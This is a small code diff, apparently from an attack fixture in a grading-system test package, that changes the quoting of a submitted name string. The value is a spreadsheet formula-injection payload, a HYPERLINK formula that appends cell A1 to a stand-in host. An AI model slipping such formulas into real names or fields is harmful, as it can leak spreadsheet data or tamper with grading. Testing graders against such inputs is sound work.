@@ -5,7 +5,7 @@ from pathlib import Path
 
 from grader.attacks.honest import KERNEL
 
-NAME = "=HYPERLINK(\"http:,,x\"&A1,\"grade\")"
+NAME = '=HYPERLINK("http:,,x"&A1,"grade")'
 
 
 def hand_in(folder: Path) -> None:
